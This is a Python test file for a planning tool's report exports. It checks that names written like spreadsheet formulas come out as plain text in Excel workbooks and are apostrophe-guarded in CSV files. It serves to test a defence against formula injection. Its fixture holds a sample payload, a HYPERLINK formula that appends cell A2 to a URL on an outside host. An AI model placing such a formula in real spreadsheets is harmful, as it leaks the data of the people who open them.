"""A name is never a spreadsheet formula: the demo report with a 社区 and a plan named like formulas
opens in Excel with those names as text (workbook cells typed as text, CSV cells guarded with ')."""
from __future__ import annotations

import dataclasses
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from planning.outputs.cells import csv_text
from planning.outputs.reports import prepare_report_data
from planning.outputs.reports.build import render
from planning.outputs.reports.content import assemble_report
from planning.outputs.reports.exports import write_csv
from tests.support.voting import make_scenario

COMMUNITY = '=HYPERLINK("http://e.cn/?"&A2,"点此")'
PLAN = "=1+1"


@pytest.fixture(scope="module")
def data(demo_area):
    communities = demo_area.communities.copy()
    communities.loc[communities.index[0], "name"] = COMMUNITY
    area = dataclasses.replace(demo_area, communities=communities)
    return prepare_report_data(area, scenario=make_scenario(PLAN, ["s1", "s2"], 0.5))


def test_csv_text_guards_only_text_a_spreadsheet_would_run():
    frame = pd.DataFrame({"name": ["=1+1", "+86", "-东区", "@sum", "\tx", "社区", None],
                          "change": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0]})
    guarded = csv_text(frame)
    assert guarded["name"].tolist()[:6] == ["'=1+1", "'+86", "'-东区", "'@sum", "'\tx", "社区"]
    assert pd.isna(guarded["name"].iloc[6])  # an empty cell stays empty
    assert guarded["change"].tolist() == frame["change"].tolist()  # negative numbers stay numbers
    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame is unchanged


def test_the_report_workbook_holds_the_names_as_text_and_no_formula(data):
    book = load_workbook(io.BytesIO(render(data, "xlsx", "zh")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    named = [c for c in cells if c.value == COMMUNITY]
    assert named and all(c.data_type == "s" for c in named)


def test_the_report_csv_files_guard_the_names(data, tmp_path):
    files = write_csv(tmp_path / "csv", assemble_report(data, "zh"))
    text = "\n".join(p.read_text(encoding="utf-8-sig") for p in files)
    communities = pd.read_csv(next(p for p in files if p.stem == "communities"), encoding="utf-8-sig")
    assert "'" + COMMUNITY in set(communities["社区"])
    assert "\n" + COMMUNITY not in text and "," + COMMUNITY not in text and ',"' + COMMUNITY not in text
